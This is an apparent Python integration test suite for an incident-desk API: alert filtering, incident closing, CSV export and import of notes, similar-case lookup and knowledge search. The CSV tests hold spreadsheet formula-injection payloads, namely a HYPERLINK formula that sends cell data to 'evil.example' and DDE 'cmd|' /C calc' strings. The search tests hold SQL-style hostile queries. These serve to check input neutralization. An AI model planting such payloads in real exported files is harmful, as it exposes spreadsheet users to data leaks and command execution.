"""The desk's side of issue 14 through the API, on SQLite and PostgreSQL.

Open alerts across the fleet (``GET /api/v1/alerts``), the one-click close with a
resolution note, notes in and out of the incident CSV (formula-neutralized), and
similar past cases (``GET /api/v1/incidents/{id}/similar``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from sqlmodel import Session

from server import crud
from server.ingest.incidents import apply_fault_incidents
from server.main import create_app
from server.models import Alert, DeviceCreate
from server.models.incident import HANDOVER_NOTE_MAX, RESOLUTION_NOTE_MAX
from tests.fixtures.api_auth import Auth, make_auth
from tests.fixtures.server_app import app_settings

pytestmark = pytest.mark.integration

T0 = datetime(2026, 3, 2, 9, tzinfo=UTC)


def iso(value: datetime) -> str:
    return value.isoformat().replace("+00:00", "Z")


@pytest.fixture
def client(tmp_path: Path, database_url: str) -> Iterator[TestClient]:
    settings = app_settings(tmp_path, database_url)
    with TestClient(create_app(settings)) as test_client:
        engine: Engine = test_client.app.state.engine  # type: ignore[attr-defined]
        with Session(engine) as db:
            for device_id, model, device_type, customer in (
                ("mfp-a", "C3000", "mfp", "Acme"),
                ("mfp-b", "C3000", "mfp", "Globex"),
                ("mfp-c", "C5000", "mfp", "Acme"),
                ("ct-a", "CT-64", "imaging", "Acme"),
            ):
                crud.create_device(
                    db,
                    data=DeviceCreate(
                        id=device_id, serial=device_id, model=model, type=device_type,
                        customer=customer,
                    ),
                )  # fmt: skip
        yield test_client


@pytest.fixture
def auth(client: TestClient) -> Auth:
    return make_auth(client)


def engine_of(client: TestClient) -> Engine:
    engine: Engine = client.app.state.engine  # type: ignore[attr-defined]
    return engine


def raise_fault(
    client: TestClient,
    device_id: str,
    code: str,
    severity: str,
    at: datetime,
    source: str = "device",
) -> None:
    """As the ingest writes a fault: the alert row, and (error and above) its incident."""
    row: dict[str, Any] = {
        "device_id": device_id,
        "source": source,
        "code": code,
        "metric": None if source == "device" else "disk_percent:/",
        "severity": severity,
        "message": f"{code} on {device_id}",
        "raised_at": at,
        "cleared_at": None,
        "open": True,
    }
    engine = engine_of(client)
    with Session(engine) as db:
        db.add(Alert(**row))
        db.commit()
    with engine.begin() as conn:
        apply_fault_incidents(conn, [row], [])


def clear_fault(client: TestClient, device_id: str, code: str, at: datetime) -> None:
    with engine_of(client).begin() as conn:
        apply_fault_incidents(conn, [], [(device_id, code, at)])


def test_open_alerts_across_the_fleet_with_filters(client: TestClient, auth: Auth) -> None:
    raise_fault(client, "mfp-a", "SC-541", "critical", T0)
    raise_fault(client, "mfp-b", "J-201", "error", T0 + timedelta(minutes=1))
    raise_fault(client, "ct-a", "DICOM-ECHO-FAIL-PACS", "error", T0 + timedelta(minutes=2))
    raise_fault(client, "mfp-c", "TONER-LOW-BLACK", "warning", T0 + timedelta(minutes=3))
    raise_fault(client, "mfp-c", "disk_full", "error", T0, source="rule")

    def codes(**params: str) -> list[str]:
        answer = client.get("/api/v1/alerts", params=params, headers=auth("operator"))
        assert answer.status_code == 200, answer.text
        body = answer.json()
        assert body["count"] == len(body["items"])
        return [item["code"] for item in body["items"]]

    # Most severe first, then newest.
    assert codes() == ["SC-541", "DICOM-ECHO-FAIL-PACS", "J-201", "disk_full", "TONER-LOW-BLACK"]
    assert codes(type="imaging") == ["DICOM-ECHO-FAIL-PACS"]
    assert codes(customer="Globex") == ["J-201"]
    assert codes(severity="critical") == ["SC-541"]
    assert codes(severity="warning", customer="Acme", type="mfp") == [
        "SC-541",
        "disk_full",
        "TONER-LOW-BLACK",
    ]
    assert codes(code="J-201") == ["J-201"]
    assert codes(source="rule") == ["disk_full"]
    items = client.get("/api/v1/alerts", headers=auth("operator")).json()["items"]
    by_code = {item["code"]: item for item in items}
    assert by_code["SC-541"]["incident_id"] is not None
    assert by_code["SC-541"]["customer"] == "Acme"
    assert by_code["SC-541"]["model"] == "C3000"
    assert by_code["TONER-LOW-BLACK"]["incident_id"] is None  # a warning opens none
    assert by_code["disk_full"]["incident_id"] is None  # nor does a rule
    nul = {"code": "\x00"}
    assert client.get("/api/v1/alerts", params=nul, headers=auth("operator")).status_code == 422
    for bad in ({"severity": "fatal"}, {"limit": "0"}, {"source": "x"}, {"code": "x" * 200}):
        assert client.get("/api/v1/alerts", params=bad, headers=auth("operator")).status_code == 422
    assert client.get("/api/v1/alerts").status_code == 401


def test_the_desk_closes_a_cleared_fault_in_one_click_with_a_note(
    client: TestClient, auth: Auth
) -> None:
    raise_fault(client, "mfp-a", "SC-541", "critical", T0)
    [incident] = client.get(
        "/api/v1/incidents", params={"state": "open"}, headers=auth("operator")
    ).json()["items"]
    assert incident["channel"] == "alert"
    assert incident["restored_at_proposed"] is None
    url = f"/api/v1/incidents/{incident['id']}/close"
    # Not cleared yet: there is no restore time to confirm.
    early = client.post(url, json={"resolution": "remote"}, headers=auth("operator"))
    assert early.status_code == 422
    assert early.json()["detail"][0]["loc"] == ["body", "restored_at"]
    clear_fault(client, "mfp-a", "SC-541", T0 + timedelta(minutes=45))
    note = "Reset fuser thermistor error via remote session; no parts"
    closed = client.post(
        url, json={"resolution": "remote", "resolution_note": note}, headers=auth("operator")
    )
    assert closed.status_code == 200, closed.text
    body = closed.json()
    assert body["state"] == "closed"
    assert body["restored_at"] == iso(T0 + timedelta(minutes=45))
    assert body["resolution_note"] == note
    again = client.post(url, json={"resolution": "phone"}, headers=auth("operator"))
    assert again.status_code == 409
    # The next fault of the same code opens a new incident.
    raise_fault(client, "mfp-a", "SC-541", "critical", T0 + timedelta(hours=2))
    open_now = client.get("/api/v1/incidents", params={"state": "open"}, headers=auth("operator"))
    assert open_now.json()["count"] == 1


def test_bad_closes_answer_4xx(client: TestClient, auth: Auth) -> None:
    created = client.post(
        "/api/v1/incidents",
        json={"device_id": "mfp-a", "opened_at": iso(T0), "restored_at": iso(T0)},
        headers=auth("operator"),
    ).json()
    url = f"/api/v1/incidents/{created['id']}/close"
    huge = "x" * (RESOLUTION_NOTE_MAX + 1)
    for body in (
        {"resolution": "fixed"},
        {},
        {"resolution": "remote", "resolution_note": huge},
        {"resolution": "remote", "closed_at": "2026-03-01T00:00:00"},
        {"resolution": "remote", "closed_at": iso(T0 - timedelta(days=1))},
    ):
        answer = client.post(url, json=body, headers=auth("operator"))
        assert answer.status_code == 422, (body, answer.text)
    assert client.post(url, json={"resolution": "remote"}).status_code == 401
    missing = client.post("/api/v1/incidents/999999/close", json={"resolution": "remote"},
                          headers=auth("operator"))  # fmt: skip
    assert missing.status_code == 404
    patched = client.patch(
        f"/api/v1/incidents/{created['id']}",
        json={"resolution_note": huge},
        headers=auth("operator"),
    )
    assert patched.status_code == 422
    fetched = client.get(f"/api/v1/incidents/{created['id']}", headers=auth("operator")).json()
    assert fetched["state"] == "open"
    assert fetched["resolution_note"] is None


def test_notes_go_out_neutralized_and_come_back_exactly(client: TestClient, auth: Auth) -> None:
    notes = [
        '=HYPERLINK("http://evil.example/?x="&A1,"parts")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "Replaced fuser unit (part 4711),\nreset counter",
        "x" * RESOLUTION_NOTE_MAX,
    ]
    for number, note in enumerate(notes):
        body = {
            "device_id": "mfp-a",
            "external_id": f"N-{number}",
            "opened_at": iso(T0),
            "restored_at": iso(T0 + timedelta(hours=1)),
            "closed_at": iso(T0 + timedelta(hours=1)),
            "resolution": "dispatch",
            "resolution_note": note,
        }
        created = client.post("/api/v1/incidents", json=body, headers=auth("operator"))
        assert created.status_code == 201, created.text
    exported = client.get("/api/v1/incidents/export", headers=auth("manager"))
    assert exported.status_code == 200
    assert client.get("/api/v1/incidents/export", headers=auth("operator")).status_code == 403
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    cells = {row["external_id"]: row["resolution_note"] for row in rows}
    assert cells["N-0"].startswith("'=")
    assert cells["N-1"].startswith("'@")
    # Re-imported (changed in a spreadsheet), the notes come back as they were.
    changed = exported.text.replace("reset counter", "reset counter again")
    imported = client.post(
        "/api/v1/incidents/import",
        content=changed.encode(),
        headers={**auth("manager"), "Content-Type": "text/csv"},
    )
    assert imported.status_code == 200, imported.text
    stored = {
        item["external_id"]: item["resolution_note"]
        for item in client.get("/api/v1/incidents", headers=auth("operator")).json()["items"]
    }
    assert stored["N-0"] == notes[0]
    assert stored["N-1"] == notes[1]
    assert stored["N-2"] == notes[2] + " again"
    assert stored["N-3"] == notes[3]


def test_handover_notes_go_out_neutralized_and_come_back_exactly(
    client: TestClient, auth: Auth
) -> None:
    notes = [
        '=HYPERLINK("http://evil.example/?x="&A1,"logs")',
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "Fuser replaced, still SC-541;\nneeds the board",
        "x" * HANDOVER_NOTE_MAX,
    ]
    for number, note in enumerate(notes):
        body = {"device_id": "mfp-a", "external_id": f"E-{number}", "opened_at": iso(T0)}
        created = client.post("/api/v1/incidents", json=body, headers=auth("operator"))
        assert created.status_code == 201, created.text
        escalated = client.post(
            f"/api/v1/incidents/{created.json()['id']}/escalate",
            json={"tier": 2, "note": note},
            headers=auth("operator"),
        )
        assert escalated.status_code == 200, escalated.text
    exported = client.get("/api/v1/incidents/export", headers=auth("manager"))
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    cells = {row["external_id"]: row["handover_note"] for row in rows}
    assert cells["E-0"].startswith("'=")
    assert cells["E-1"].startswith("'+")
    changed = exported.text.replace("needs the board", "needs the board now")
    imported = client.post(
        "/api/v1/incidents/import",
        content=changed.encode(),
        headers={**auth("manager"), "Content-Type": "text/csv"},
    )
    assert imported.status_code == 200, imported.text
    assert imported.json()["updated"] == 1
    stored = {
        item["external_id"]: item["handover_note"]
        for item in client.get("/api/v1/incidents", headers=auth("operator")).json()["items"]
    }
    assert stored == {
        "E-0": notes[0], "E-1": notes[1], "E-2": notes[2] + " now", "E-3": notes[3],
    }  # fmt: skip
    too_long = "device_id,opened_at,handover_note\nmfp-a,2026-03-02T09:00:00Z," + "x" * (
        HANDOVER_NOTE_MAX + 1
    )
    refused = client.post(
        "/api/v1/incidents/import",
        content=too_long.encode(),
        headers={**auth("manager"), "Content-Type": "text/csv"},
    )
    assert refused.status_code == 422, refused.text
    assert "handover_note" in refused.text


def _closed(
    client: TestClient,
    auth: Auth,
    device_id: str,
    code: str,
    resolution: str,
    hours: float,
    note: str | None,
    day: int,
) -> None:
    opened = T0 + timedelta(days=day)
    body = {
        "device_id": device_id,
        "opened_at": iso(opened),
        "restored_at": iso(opened + timedelta(hours=hours)),
        "closed_at": iso(opened + timedelta(hours=hours)),
        "resolution": resolution,
        "error_code": code,
        "resolution_note": note,
    }
    created = client.post("/api/v1/incidents", json=body, headers=auth("operator"))
    assert created.status_code == 201, created.text


def test_similar_past_cases_same_model_first_then_any(client: TestClient, auth: Auth) -> None:
    reset = "Remote reset of the fuser controller"
    swap = "Replaced fuser thermistor (part FT-2)"
    # mfp-a and mfp-b are C3000s, mfp-c a C5000.
    _closed(client, auth, "mfp-a", "SC-541", "remote", 1.0, reset, 1)
    _closed(
        client, auth, "mfp-b", "SC-541", "remote", 2.0, "  remote RESET of the fuser controller ", 2
    )
    _closed(client, auth, "mfp-a", "SC-541", "remote", 3.0, None, 3)
    _closed(client, auth, "mfp-b", "SC-541", "dispatch", 20.0, swap, 4)
    _closed(client, auth, "mfp-a", "SC-541", "no_fault", 0.5, "Customer error", 5)
    _closed(client, auth, "mfp-c", "SC-541", "dispatch", 30.0, "C5000 board swap", 6)
    _closed(client, auth, "mfp-c", "SC-320", "remote", 1.0, "Other code", 7)
    raise_fault(client, "mfp-a", "SC-541", "critical", T0 + timedelta(days=10))
    [incident] = client.get(
        "/api/v1/incidents", params={"state": "open"}, headers=auth("operator")
    ).json()["items"]
    answer = client.get(f"/api/v1/incidents/{incident['id']}/similar", headers=auth("operator"))
    assert answer.status_code == 200, answer.text
    similar = answer.json()
    assert similar["scope"] == "model"
    assert similar["model"] == "C3000"
    assert similar["error_code"] == "SC-541"
    assert similar["count"] == 4  # no_fault is not a fix; other models come second
    assert similar["remote_share"] == 0.75
    assert similar["median_ttr_remote_hours"] == 2.0
    assert similar["median_ttr_dispatch_hours"] == 20.0
    fixes = similar["fixes"]
    assert [f["count"] for f in fixes] == [2, 1]
    assert fixes[0]["note"] == "remote RESET of the fuser controller"  # the most recent wording
    assert fixes[1]["note"] == swap
    assert similar["any_model"]["count"] == 5
    assert similar["any_model"]["median_ttr_dispatch_hours"] == 25.0
    # By code and model: a model without cases answers with every model's.
    by_code = client.get(
        "/api/v1/incidents/similar",
        params={"error_code": "SC-541", "model": "C9999"},
        headers=auth("operator"),
    ).json()
    assert by_code["scope"] == "any"
    assert by_code["count"] == 5
    assert {f["note"] for f in by_code["fixes"]} >= {"C5000 board swap", swap}
    none = client.get(
        "/api/v1/incidents/similar", params={"error_code": "NOPE"}, headers=auth("operator")
    ).json()
    assert none["count"] == 0
    assert none["remote_share"] is None
    assert none["fixes"] == []
    nul = {"error_code": "\x00"}
    assert (
        client.get("/api/v1/incidents/similar", params=nul, headers=auth("operator")).status_code
        < 500
    )
    for bad in ({}, {"error_code": ""}, {"error_code": "x" * 200}):
        got = client.get("/api/v1/incidents/similar", params=bad, headers=auth("operator"))
        assert got.status_code == 422
    assert client.get(f"/api/v1/incidents/{incident['id']}/similar").status_code == 401
    assert (
        client.get("/api/v1/incidents/999999/similar", headers=auth("operator")).status_code == 404
    )


# -- the knowledge base: articles and a full-text search over them and resolution notes --------


def _article(client: TestClient, auth: Auth, **fields: Any) -> dict[str, Any]:
    body = {
        "title": "Fuser thermistor open",
        "error_codes": ["SC-541", "SC-542"],
        "models": ["C3000"],
        "steps": "1. Power off. 2. Reseat the thermistor connector CN12. 3. Power on.",
        **fields,
    }
    answer = client.post("/api/v1/knowledge/articles", json=body, headers=auth("manager"))
    assert answer.status_code == 201, answer.text
    created: dict[str, Any] = answer.json()
    return created


def test_knowledge_search_finds_articles_and_notes_by_their_words(
    client: TestClient, auth: Auth
) -> None:
    article = _article(client, auth)
    _article(client, auth, title="Polygon motor noise", error_codes=["SC-320"], steps="Replace")
    _closed(client, auth, "mfp-a", "SC-541", "remote", 1.0, "Reseated connector CN12", 1)
    _closed(client, auth, "mfp-b", "J-201", "phone", 0.5, "Customer cleared the duplex unit", 2)
    _closed(client, auth, "mfp-c", "SC-541", "dispatch", 9, None, 3)

    def search(q: str, role: str = "operator") -> dict[str, Any]:
        answer = client.get("/api/v1/knowledge", params={"q": q}, headers=auth(role))
        assert answer.status_code == 200, answer.text
        found: dict[str, Any] = answer.json()
        assert found["count"] >= len(found["items"])
        return found

    connector = search("CN12 connector")
    assert sorted(hit["kind"] for hit in connector["items"]) == ["article", "note"]
    assert connector["count"] == 2
    by_code = search("SC-541")
    kinds = sorted(hit["kind"] for hit in by_code["items"])
    assert kinds == ["article", "note"]  # the note of the closed SC-541 case, and the article
    assert search("duplex")["items"][0]["kind"] == "note"
    assert search("duplex")["items"][0]["device_id"] == "mfp-b"
    assert search("nothing-like-this")["count"] == 0
    # The query language is never the user's: operators and quotes are words.
    for hostile in ('"', 'CN12 OR "', "NEAR(a b)", "* OR x", "title:Fuser", "-CN12", "'; DROP"):
        search(hostile)
    # Edited later, a note is found by its new words only.
    incident_id = next(h["id"] for h in connector["items"] if h["kind"] == "note")
    patched = client.patch(
        f"/api/v1/incidents/{incident_id}",
        json={"resolution_note": "Firmware upgrade to 2.4"},
        headers=auth("operator"),
    )
    assert patched.status_code == 200
    assert [h["kind"] for h in search("CN12")["items"]] == ["article"]
    assert [h["id"] for h in search("firmware")["items"]] == [incident_id]
    fetched = client.get(f"/api/v1/knowledge/articles/{article['id']}", headers=auth("operator"))
    assert fetched.json()["error_codes"] == ["SC-541", "SC-542"]


def test_knowledge_roles_and_bad_input(client: TestClient, auth: Auth) -> None:
    body = {"title": "T", "steps": "S"}
    denied = client.post("/api/v1/knowledge/articles", json=body, headers=auth("operator"))
    assert denied.status_code == 403
    assert client.get("/api/v1/knowledge", params={"q": "x"}).status_code == 401
    for bad in (
        {"title": "", "steps": "S"},
        {"title": "T", "steps": ""},
        {"title": "T" * 201, "steps": "S"},
        {"title": "T", "steps": "S" * 20_001},
        {"title": "T", "steps": "S", "error_codes": ["C"] * 51},
    ):
        answer = client.post("/api/v1/knowledge/articles", json=bad, headers=auth("manager"))
        assert answer.status_code == 422, bad
    for params in ({}, {"q": ""}, {"q": "x" * 201}, {"q": "x", "limit": "0"}, {"q": "a\x00b"}):
        answer = client.get("/api/v1/knowledge", params=params, headers=auth("operator"))
        assert answer.status_code == 422, params
    missing = client.get("/api/v1/knowledge/articles/424242", headers=auth("operator"))
    assert missing.status_code == 404


@pytest.mark.postgres
def test_postgresql_search_uses_the_gin_indexes(postgres_url: str) -> None:
    from sqlmodel import Session as DbSession

    from server.db import create_schema, make_engine
    from server.incidents.knowledge import (
        ARTICLE_DOCUMENT,
        ARTICLE_VECTOR_COLUMN,
        NOTE_DOCUMENT,
        NOTE_VECTOR_COLUMN,
        search,
    )

    migration = (
        Path(__file__).parents[2] / "server/migrations/versions/0020_note_search.py"
    ).read_text()
    assert NOTE_DOCUMENT in migration
    assert ARTICLE_DOCUMENT in migration

    engine = make_engine(postgres_url)
    try:
        create_schema(engine)
        with DbSession(engine) as db:
            db.execute(sa.text("SET enable_seqscan = off"))
            for table, document, index, where in (
                ("incident", NOTE_VECTOR_COLUMN, "ix_incident_note_vector", ""),
                ("knowledge_article", ARTICLE_VECTOR_COLUMN, "ix_knowledge_article_vector", ""),
            ):
                explain = (
                    f"EXPLAIN SELECT id FROM {table}, websearch_to_tsquery('simple', 'fuser') "  # noqa: S608  (fixed texts)
                    f"AS query WHERE {where} {document} @@ query"
                )
                plan = "\n".join(row[0] for row in db.execute(sa.text(explain)))
                assert index in plan, plan
            assert search(db, q="fuser").count == 0
    finally:
        engine.dispose()
